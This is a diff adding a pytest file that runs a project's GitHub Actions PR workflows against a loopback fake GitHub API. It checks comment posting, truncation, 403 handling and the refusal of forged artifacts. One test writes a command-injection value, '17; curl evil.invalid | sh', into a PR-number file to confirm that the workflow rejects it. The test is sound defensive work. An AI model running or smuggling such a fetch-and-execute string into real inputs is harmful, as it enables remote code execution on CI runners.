@@ -1,0 +1,313 @@
+"""Run the PR workflows' own `run:` steps (read from the YAML) the way a runner would.
+
+pr-health.yml runs in a temporary repository whose head commit changes an events manifest;
+pr-comment.yml then runs against a loopback server speaking the GitHub endpoints it uses (list
+issue comments, create, update, and the pull request read that binds the artifact to its PR).
+Steps with `uses:` and the install step are skipped (the artifact download is simulated by a copy).
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import shutil
+import subprocess
+import sys
+import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import Any
+from urllib.parse import parse_qs, urlparse
+
+import pytest
+import yaml
+
+from drumgate.github_comment import COMMENT_LIMIT
+from tests import pr_scenario
+
+WORKFLOWS = Path(__file__).resolve().parent.parent / ".github" / "workflows"
+EXPRESSION = re.compile(r"\$\{\{\s*(.+?)\s*\}\}")
+REPO = "acme/drums"
+PR_NUMBER = 17
+TOKEN = "ghs_loopback_token"
+
+
+# A loopback GitHub ------------------------------------------------------------------------------
+class FakeGitHub:
+    def __init__(self, head_sha: str) -> None:
+        self.head_sha = head_sha
+        self.comments: list[dict[str, Any]] = [
+            {"id": 1, "body": "Looks good!", "user": {"login": "reviewer", "type": "User"}},
+            {"id": 2, "body": "<!-- drumgate:health-delta -->\nforged", "user": {"login": "mallory", "type": "User"}},
+        ]
+        self.requests: list[tuple[str, str]] = []
+        self.forbidden = False
+        self.page_size = 2
+
+    def handle(self, method: str, url: str, body: dict[str, Any] | None, auth: str) -> tuple[int, dict, Any]:
+        self.requests.append((method, url))
+        if auth != f"Bearer {TOKEN}":
+            return 401, {}, {"message": "Bad credentials"}
+        if self.forbidden:
+            return 403, {}, {"message": "Resource not accessible by integration"}
+        parsed = urlparse(url)
+        path, query = parsed.path, parse_qs(parsed.query)
+        prefix = f"/repos/{REPO}"
+        if method == "GET" and path == f"{prefix}/pulls/{PR_NUMBER}":
+            return 200, {}, {"number": PR_NUMBER, "head": {"sha": self.head_sha}}
+        if path == f"{prefix}/issues/{PR_NUMBER}/comments":
+            if method == "GET":
+                page = int(query.get("page", ["1"])[0])
+                start = (page - 1) * self.page_size
+                chunk = self.comments[start : start + self.page_size]
+                headers = {}
+                if start + self.page_size < len(self.comments):
+                    headers["Link"] = f'<{path}?per_page=100&page={page + 1}>; rel="next"'
+                return 200, headers, chunk
+            if method == "POST":
+                comment = {
+                    "id": 100 + len(self.comments),
+                    "body": body["body"],
+                    "user": {"login": "github-actions[bot]", "type": "Bot"},
+                }
+                comment["html_url"] = f"https://github.invalid/{REPO}/pull/{PR_NUMBER}#issuecomment-{comment['id']}"
+                self.comments.append(comment)
+                return 201, {}, comment
+        match = re.fullmatch(rf"{prefix}/issues/comments/(\d+)", path)
+        if match and method == "PATCH":
+            for comment in self.comments:
+                if comment["id"] == int(match.group(1)):
+                    comment["body"] = body["body"]
+                    return 200, {}, comment
+        return 404, {}, {"message": "Not Found"}
+
+    def bot_comments(self) -> list[dict[str, Any]]:
+        return [c for c in self.comments if c["user"]["type"] == "Bot"]
+
+
+@pytest.fixture
+def github() -> Iterator[tuple[FakeGitHub, str]]:
+    fake = FakeGitHub(head_sha="")
+
+    class Handler(BaseHTTPRequestHandler):
+        def _serve(self) -> None:
+            length = int(self.headers.get("Content-Length") or 0)
+            body = json.loads(self.rfile.read(length)) if length else None
+            status, headers, payload = fake.handle(self.command, self.path, body, self.headers.get("Authorization", ""))
+            data = json.dumps(payload).encode()
+            self.send_response(status)
+            for key, value in headers.items():
+                if key == "Link":
+                    value = value.replace("<", f"<http://127.0.0.1:{self.server.server_port}", 1)
+                self.send_header(key, value)
+            self.send_header("Content-Type", "application/json")
+            self.send_header("Content-Length", str(len(data)))
+            self.end_headers()
+            self.wfile.write(data)
+
+        do_GET = do_POST = do_PATCH = _serve
+
+        def log_message(self, *args: Any) -> None:
+            return
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield fake, f"http://127.0.0.1:{server.server_port}"
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+# A small runner ---------------------------------------------------------------------------------
+def load_steps(workflow: str, job: str) -> list[dict[str, Any]]:
+    document = yaml.safe_load((WORKFLOWS / workflow).read_text(encoding="utf-8"))
+    return document["jobs"][job]["steps"]
+
+
+def substitute(text: str, contexts: dict[str, str]) -> str:
+    def value(match: re.Match[str]) -> str:
+        expression = match.group(1)
+        assert expression in contexts, f"the test runner does not know ${{{{ {expression} }}}}"
+        return contexts[expression]
+
+    return EXPRESSION.sub(value, text)
+
+
+def runner_env(workspace: Path, temp: Path, extra: dict[str, str]) -> dict[str, str]:
+    for name in ("summary", "output", "env", "path"):
+        (temp / f"github_{name}").write_text("", encoding="utf-8")
+    path = os.pathsep.join([str(Path(sys.executable).parent), os.environ.get("PATH", "")])
+    return {
+        "PATH": path,
+        "HOME": os.environ.get("HOME", str(temp)),
+        "CI": "true",
+        "GITHUB_ACTIONS": "true",
+        "GITHUB_WORKSPACE": str(workspace),
+        "GITHUB_REPOSITORY": REPO,
+        "GITHUB_SERVER_URL": "https://github.invalid",
+        "GITHUB_RUN_ID": "4242",
+        "GITHUB_STEP_SUMMARY": str(temp / "github_summary"),
+        "GITHUB_OUTPUT": str(temp / "github_output"),
+        "GITHUB_ENV": str(temp / "github_env"),
+        "GITHUB_PATH": str(temp / "github_path"),
+        "RUNNER_TEMP": str(temp),
+        "RUNNER_OS": "Linux",
+        **extra,
+    }
+
+
+def run_steps(
+    workflow: str, job: str, workspace: Path, temp: Path, contexts: dict[str, str], extra: dict[str, str]
+) -> list[subprocess.CompletedProcess[str]]:
+    """Run each `run:` step like a runner (bash -eo pipefail); stop at the first failing step."""
+    env = runner_env(workspace, temp, extra)
+    contexts = dict(contexts)
+    done = []
+    for step in load_steps(workflow, job):
+        if "uses" in step or step.get("name") == "Install drumgate":
+            continue
+        step_env = {key: substitute(str(value), contexts) for key, value in (step.get("env") or {}).items()}
+        Path(env["GITHUB_OUTPUT"]).write_text("", encoding="utf-8")
+        script = substitute(step["run"], contexts)
+        result = subprocess.run(
+            ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", script],
+            cwd=workspace,
+            env={**env, **step_env},
+            capture_output=True,
+            text=True,
+            check=False,
+        )
+        done.append(result)
+        if result.returncode != 0:
+            break
+        if "id" in step:
+            for line in Path(env["GITHUB_OUTPUT"]).read_text(encoding="utf-8").splitlines():
+                key, _, value = line.partition("=")
+                contexts[f"steps.{step['id']}.outputs.{key}"] = value
+    return done
+
+
+# The scenario -----------------------------------------------------------------------------------
+@pytest.fixture(scope="module")
+def health_run(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str, list[subprocess.CompletedProcess[str]]]:
+    """pr-health.yml's steps on a repository whose head changes the egmd events manifest."""
+    tmp_path = tmp_path_factory.mktemp("health-run")
+    repo = tmp_path / "checkout"
+    base, head = pr_scenario.build(repo)
+    temp = tmp_path / "runner-health"
+    temp.mkdir()
+    contexts = {
+        "github.event.pull_request.base.sha": base,
+        "github.event.pull_request.head.sha": head,
+        "github.event.pull_request.number": str(PR_NUMBER),
+    }
+    results = run_steps("pr-health.yml", "health", repo, temp, contexts, {"GITHUB_EVENT_NAME": "pull_request"})
+    return temp, head, results
+
+
+def comment_run(
+    tmp_path: Path, artifact: Path, head: str, api: str, name: str, replace: dict[str, str] | None = None
+) -> list[subprocess.CompletedProcess[str]]:
+    """pr-comment.yml's steps; the artifact download is a copy (with `replace`d files, as a fork could)."""
+    temp = tmp_path / name
+    shutil.copytree(artifact, temp / "drumgate-health")
+    for file_name, content in (replace or {}).items():
+        (temp / "drumgate-health" / file_name).write_text(content, encoding="utf-8")
+    contexts = {
+        "github.token": TOKEN,
+        "github.event.workflow_run.head_sha": head,
+    }
+    extra = {"GITHUB_API_URL": api, "GITHUB_EVENT_NAME": "workflow_run"}
+    return run_steps("pr-comment.yml", "comment", tmp_path, temp, contexts, extra)
+
+
+def test_pr_health_steps_write_the_report_summary_and_pr_number(health_run) -> None:
+    temp, head, results = health_run
+    assert [r.returncode for r in results] == [0, 0, 0], [r.stderr for r in results]
+    report = temp / "drumgate-health"
+    comment = (report / "comment.md").read_text(encoding="utf-8")
+    assert comment.startswith("<!-- drumgate:health-delta -->")
+    assert "| egmd | ✅ 9/9 → ❌ 8/9 |" in comment
+    assert (temp / "github_summary").read_text(encoding="utf-8") == comment
+    assert (report / "pr-number.txt").read_text(encoding="utf-8") == f"{PR_NUMBER}\n"
+    assert (report / "head-sha.txt").read_text(encoding="utf-8") == f"{head}\n"
+    assert "https://github.invalid/acme/drums/actions/runs/4242" in comment
+    assert (report / "reports" / "egmd_head.html").is_file()
+
+
+def test_comment_is_created_then_updated_in_place(health_run, github, tmp_path: Path) -> None:
+    temp, head, _ = health_run
+    fake, api = github
+    fake.head_sha = head
+    first = comment_run(tmp_path, temp / "drumgate-health", head, api, "runner-comment-1")
+    assert [r.returncode for r in first] == [0, 0], [r.stderr for r in first]
+    assert "comment created" in first[-1].stdout
+    assert len(fake.bot_comments()) == 1
+    created = fake.bot_comments()[0]
+    assert created["body"] == (temp / "drumgate-health" / "comment.md").read_text(encoding="utf-8")
+    assert fake.comments[1]["body"].endswith("forged"), "a user's comment holding the marker is never edited"
+
+    second = comment_run(tmp_path, temp / "drumgate-health", head, api, "runner-comment-2")
+    assert [r.returncode for r in second] == [0, 0], [r.stderr for r in second]
+    assert "comment updated" in second[-1].stdout
+    assert [c["id"] for c in fake.bot_comments()] == [created["id"]]
+    assert ("PATCH", f"/repos/{REPO}/issues/comments/{created['id']}") in fake.requests
+    pages = [url for method, url in fake.requests if method == "GET" and "/comments" in url]
+    assert any("page=2" in url for url in pages), "the comment list is paginated"
+
+
+def test_a_body_over_the_limit_is_cut_cleanly(health_run, github, tmp_path: Path) -> None:
+    temp, head, _ = health_run
+    fake, api = github
+    fake.head_sha = head
+    artifact = temp / "drumgate-health"
+    huge = "<!-- drumgate:health-delta -->\n<details><summary>big</summary>\n\n```json\n" + "\n".join(
+        json.dumps({"row": i, "pad": "x" * 60}) for i in range(2000)
+    )
+    results = comment_run(tmp_path, artifact, head, api, "runner-big", {"comment.md": huge + "\n```\n</details>\n"})
+    assert results[-1].returncode == 0, results[-1].stderr
+    body = fake.bot_comments()[0]["body"]
+    assert len(body) <= COMMENT_LIMIT
+    assert body.count("```") % 2 == 0 and body.count("<details") == body.count("</details>")
+    assert "cut to stay under GitHub's 65,536-character limit" in body
+    assert "(cut to fit the limit)" in results[-1].stdout
+
+
+def test_forbidden_gives_a_clear_message_and_fails(health_run, github, tmp_path: Path) -> None:
+    temp, head, _ = health_run
+    fake, api = github
+    fake.head_sha = head
+    fake.forbidden = True
+    results = comment_run(tmp_path, temp / "drumgate-health", head, api, "runner-403")
+    failed = results[-1]
+    assert failed.returncode != 0
+    message = failed.stderr.strip()
+    assert message.count("\n") == 0 and "Traceback" not in message
+    assert "403 Forbidden: Resource not accessible by integration" in message
+    assert "pull-requests: write" in message
+    assert not fake.bot_comments()
+
+
+def test_a_forged_pr_number_is_refused(health_run, github, tmp_path: Path) -> None:
+    temp, head, _ = health_run
+    fake, api = github
+    fake.head_sha = head
+    artifact = temp / "drumgate-health"
+    forged = {"pr-number.txt": "17; curl evil.invalid | sh\n"}
+    results = comment_run(tmp_path, artifact, head, api, "runner-forged", forged)
+    assert results[-1].returncode != 0 and "not a pull request number" in results[-1].stdout
+    assert not fake.requests
+
+
+def test_an_artifact_from_another_pr_is_refused(health_run, github, tmp_path: Path) -> None:
+    temp, head, _ = health_run
+    fake, api = github
+    fake.head_sha = "0" * 40
+    results = comment_run(tmp_path, temp / "drumgate-health", head, api, "runner-other")
+    assert results[-1].returncode != 0
+    assert "names a different pull request" in results[-1].stderr
+    assert not fake.bot_comments()
